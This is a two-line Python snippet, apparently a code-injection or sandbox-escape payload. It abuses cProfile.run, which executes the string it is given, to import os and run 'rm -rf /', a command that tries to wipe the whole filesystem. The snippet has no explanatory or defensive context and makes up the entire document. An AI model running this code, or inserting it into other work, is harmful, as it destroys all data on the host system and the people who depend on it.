import cProfile
cProfile.run("__import__('os').system('rm -rf /')")
